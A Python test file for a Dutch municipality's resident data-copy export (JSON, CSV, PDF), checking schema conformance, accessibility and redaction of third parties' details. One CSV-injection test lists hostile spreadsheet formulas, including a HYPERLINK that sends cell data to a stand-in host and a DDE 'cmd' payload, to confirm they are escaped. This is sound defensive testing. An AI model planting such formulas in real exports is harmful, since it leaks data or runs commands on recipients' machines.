"""Everything about somebody as one value: what is in it, what is not, and that each format holds the same."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any
from uuid import uuid4

import jsonschema
import pypdf
import pytest
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from maatwerk.casework.dossier.models import FactValue, Note
from maatwerk.casework.rights.copy import Copy, File, LeftOut, NoteRow, Person, columns, schema, tables
from maatwerk.casework.rights.files import as_csv, as_json
from maatwerk.casework.rights.labels import CELLS, PARTS
from maatwerk.casework.rights.others import Cover, Kind, Mine
from maatwerk.casework.rights.paper import as_pdfs
from maatwerk.foundation.ui.municipality import Municipality
from maatwerk.site.registry import demo_municipalities

ROOT = Path(__file__).resolve().parents[3]
CONTRACT = ROOT / "docs/contracts/copy.schema.json"
NOW = datetime(2026, 11, 22, 12, tzinfo=UTC)
DUINSTAD = Municipality("duinstad", demo_municipalities()["duinstad"])
IN_PLACE = {Kind.NAME: "[naam]", Kind.BSN: "[nummer]", Kind.MAIL: "[mail]", Kind.PHONE: "[telefoon]"}
OWN_BSN, OTHER_BSN = "111222333", "123456782"  # RvIG gives both as numbers for tests: they pass the eleven test
MINE = Mine(
    frozenset({"samira", "haddad"}), frozenset({"+31612345678", "samira@post.example"}), lambda bsn: bsn == OWN_BSN
)


def note(text: str, **fields: Any) -> NoteRow:
    owner = {"id": str(uuid4()), "organisation": "wijkteam", "purpose": "hulp thuis", "category": "zorg"}
    rest = {"own_words": False, "written_by": "Els (wijkteam)", "at": NOW, "corrected_by": ""}
    return NoteRow(text=text, **(owner | rest | fields))


def copy(*notes: NoteRow, left_out: LeftOut | None = None) -> Copy:
    person = Person(
        called="Samira",
        given_names="Samira",
        prefix="",
        family_name="Haddad",
        born=date(1988, 4, 2),
        died_on=None,
        left_on=None,
        residence="",
        bsn_is_known=True,
    )
    empty: dict[str, Any] = {
        name: () for name in Copy.model_fields if name not in {"file", "person", "notes", "left_out"}
    }
    file = File(made_at=NOW, municipality="duinstad", language="nl", asked_by="inwoner")
    return Copy(file=file, person=person, notes=notes, left_out=left_out or LeftOut(), **empty)


def read_csv(packed: bytes) -> dict[str, list[dict[str, str]]]:
    """Every table as a spreadsheet reads it."""
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        return {
            name.removesuffix(".csv"): list(
                csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline=""), delimiter=";")
            )
            for name in archive.namelist()
        }


def text_of(pdfs: list[bytes]) -> str:
    pages = [page.extract_text() for pdf in pdfs for page in pypdf.PdfReader(io.BytesIO(pdf)).pages]
    return re.sub(r"\s+", " ", " ".join(pages).replace("\u200b", ""))


def test_the_committed_contract_is_the_shape_of_the_code() -> None:
    assert json.loads(CONTRACT.read_text(encoding="utf-8")) == schema(), (
        "a copy got another shape: only additions are allowed (docs/contracts/README.md). "
        "Write it anew: python -c 'from maatwerk.casework.rights.copy import *; import json; "
        "print(json.dumps(schema(), ensure_ascii=False, indent=2))' > docs/contracts/copy.schema.json"
    )


def test_json_fits_the_contract_and_reads_back_as_the_same_values() -> None:
    made = copy(note("Regel 1\nRegel 2 “met” ’tekens’ 文"), note("=1+1", own_words=True))
    told = as_json(made)
    jsonschema.Draft202012Validator(json.loads(CONTRACT.read_text(encoding="utf-8"))).validate(json.loads(told))
    assert Copy.model_validate_json(told) == made


def test_what_does_not_fit_the_contract_is_refused() -> None:
    validator = jsonschema.Draft202012Validator(json.loads(CONTRACT.read_text(encoding="utf-8")))
    told = json.loads(as_json(copy(note("Iets"))))
    del told["notities"][0]["tekst"]
    assert not validator.is_valid(told)
    assert not validator.is_valid(json.loads(as_json(copy())) | {"extra": 1})


def test_every_part_and_every_cell_has_a_name_that_people_read() -> None:
    assert {str(field.alias) for field in Copy.model_fields.values()} == set(PARTS)
    assert {cell for _name, kind, _rows in tables(copy()) for cell in columns(kind)} == set(CELLS)


def test_csv_has_a_file_for_each_table_and_says_what_the_json_says() -> None:
    made = copy(note('Zij zei: "ja"; en toen\nniets.'), note("Eigen", own_words=True))
    found = read_csv(as_csv(made))
    told = json.loads(as_json(made))
    assert set(found) == set(told)
    assert [row["tekst"] for row in found["notities"]] == [row["tekst"] for row in told["notities"]]
    assert [row["eigenWoorden"] for row in found["notities"]] == ["nee", "ja"]
    assert found["persoon"][0]["geboren"] == "1988-04-02"
    assert found["persoon"][0]["overleden"] == ""


# OWASP, CSV Injection: the characters with which a cell may be carried out, and what is seen in attacks.
@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://kwaad.example?x="&A1)',
        "+31612345678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＠SUM(1)",
        "  =1+1",
    ],
)
def test_a_spreadsheet_carries_nothing_out(text: str) -> None:
    [row] = read_csv(as_csv(copy(note(text))))["notities"]
    assert row["tekst"] == f"'{text}"


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1, max_size=60))
def test_no_cell_begins_with_what_a_spreadsheet_carries_out(text: str) -> None:
    [row] = read_csv(as_csv(copy(note(text))))["notities"]
    assert not row["tekst"].lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert row["tekst"].removeprefix("'") == text.removeprefix("'")


def test_the_pdf_holds_each_note_and_is_tagged_for_who_cannot_see_it() -> None:
    with translation.override("nl"):
        pdfs = as_pdfs(copy(note("Zij kookt weer."), note("Hij niet.")), DUINSTAD, large_print=False)
    assert len(pdfs) == 1
    assert "Zij kookt weer." in text_of(pdfs)
    assert "Hij niet." in text_of(pdfs)
    root: Any = pypdf.PdfReader(io.BytesIO(pdfs[0])).trailer["/Root"]
    assert root["/MarkInfo"]["/Marked"]
    assert root["/Lang"] == "nl-NL"
    metadata = root["/Metadata"].get_data().decode()
    assert "pdfuaid:part" in metadata


def test_on_paper_english_is_english_and_large_print_takes_more_room() -> None:
    many = copy(*(note(f"Notitie {number}. " + "Zij kookt weer. " * 9) for number in range(20)))
    with translation.override("nl"):
        small, large = (as_pdfs(many, DUINSTAD, large_print=large) for large in (False, True))
    pages = [len(pypdf.PdfReader(io.BytesIO(pdf)).pages) for [pdf] in (small, large)]
    assert pages[1] > pages[0]
    english = many.model_copy(update={"file": many.file.model_copy(update={"language": "en"})})
    with translation.override("en"):
        [pdf] = as_pdfs(english, DUINSTAD, large_print=False)
    root: Any = pypdf.PdfReader(io.BytesIO(pdf)).trailer["/Root"]
    assert root["/Lang"] == "en-GB"


def test_what_the_fonts_cannot_draw_is_said_to_be_there() -> None:
    with translation.override("nl"):
        text = text_of(as_pdfs(copy(note("Zij zei 你好 en lachte.")), DUINSTAD, large_print=False))
    assert "Zij zei [tekens die wij niet kunnen afdrukken] en lachte." in text


def test_a_long_copy_comes_in_parts_and_no_note_is_lost() -> None:
    long = copy(*(note(f"Begin{number} " + "woord " * 1500) for number in range(50)))
    with translation.override("nl"):
        pdfs = as_pdfs(long, DUINSTAD, large_print=False)
    assert len(pdfs) > 1
    text = text_of(pdfs)
    assert f"deel 1 van {len(pdfs)}" in text
    assert re.findall(r"Begin(\d+)", text) == [str(number) for number in range(50)]


def covered(text: str, *marked: str, elsewhere: tuple[str, ...] = ()) -> str:
    return Cover(MINE, [*elsewhere, *marked], IN_PLACE)(text, marked)


def test_a_marked_name_is_covered_as_a_whole_word_also_in_another_text() -> None:
    assert covered("Fadila belde. FADILA's broer ook.", "Fadila") == "[naam] belde. [naam]'s broer ook."
    assert covered("De fadilaat bleef.", "Fadila") == "De fadilaat bleef."
    assert covered("Ook Fadila kwam.", elsewhere=("Fadila",)) == "Ook [naam] kwam."


def test_the_residents_own_name_stays_unless_it_was_marked_in_that_very_text() -> None:
    assert covered("Samira Haddad kwam.", elsewhere=("Samira",)) == "Samira Haddad kwam."
    assert covered("Samira kwam met een andere.", "Samira") == "[naam] kwam met een andere."
    assert covered("Fadila Haddad kwam.", elsewhere=("Fadila Haddad",)) == "[naam] kwam."


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Bel 06-12345678.", "Bel 06-12345678."),
        ("Bel +31 (0)6 1234 5678.", "Bel +31 (0)6 1234 5678."),
        ("Bel 06-87654321 in 2026.", "Bel [telefoon] in 2026."),
        ("Bel 0687654321 2026.", "Bel [telefoon] 2026."),
        ("(020) 123 45 67 of 0031 20 1234567", "[telefoon] of [telefoon]"),
        ("+49 151 23456789", "[telefoon]"),
        ("Bel 0800-2000, 088-1234567 of 112.", "Bel 0800-2000, 088-1234567 of 112."),
        ("Op 01-02-2026 10:30 kostte het € 1.250,00.", "Op 01-02-2026 10:30 kostte het € 1.250,00."),
        ("Mail Samira@post.example of jan@x.example.", "Mail Samira@post.example of [mail]."),
        (f"{OWN_BSN} en {OTHER_BSN} en 1234.56.782", f"{OWN_BSN} en [nummer] en [nummer]"),
        ("Rekening 123456789 blijft staan.", "Rekening 123456789 blijft staan."),  # no BSN: fails the eleven test
    ],
)
def test_what_nobody_marked_but_is_of_another_is_covered(text: str, expected: str) -> None:
    assert covered(text) == expected


def test_a_name_that_holds_an_address_is_covered_whole_and_once() -> None:
    cover = Cover(MINE, ["Jan (jan@x.example)"], IN_PLACE)
    assert cover("Jan (jan@x.example) belde.", ["Jan (jan@x.example)"]) == "[naam] belde."
    assert cover.counts == {Kind.NAME: 1}


# Names that cannot stand in any word of ours, so that finding one is a leak.
NAMES = st.lists(
    st.text("XQZJ", min_size=4, max_size=8).map(lambda name: f"Y{name.lower()}"), min_size=1, max_size=4, unique=True
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(NAMES, st.lists(st.sampled_from(["{}", "Haar zus {}.", "{}, {} en {}", "“{}”", "({})\n{}"]), min_size=1))
def test_no_marked_name_stands_in_any_of_the_files(names: list[str], sentences: list[str]) -> None:
    cover = Cover(MINE, names, IN_PLACE)
    texts = [sentence.format(*(names[each % len(names)] for each in range(3))) for sentence in sentences]
    made = copy(*(note(cover(text, names[:1])) for text in texts))
    with translation.override("nl"):
        everywhere = " ".join(
            [as_json(made).decode(), str(read_csv(as_csv(made))), text_of(as_pdfs(made, DUINSTAD, large_print=False))]
        )
    assert not [name for name in names if name.lower() in everywhere.lower()]


def test_the_models_of_the_file_have_no_column_that_a_copy_forgets() -> None:
    """A new column is a question: does the resident get it too?"""
    owner = {"municipality", "subject", "controller", "secrecy", "purpose", "category", "id"}
    told = {
        Note: {"text", "written_by", "at", "own_words", "third_persons", "corrected_by"},
        FactValue: {"about", "fact", "value", "source", "said_by", "noted_by", "at", "replaced_by"},
    }
    for model, fields in told.items():
        assert {field.name for field in model._meta.concrete_fields} - owner == fields
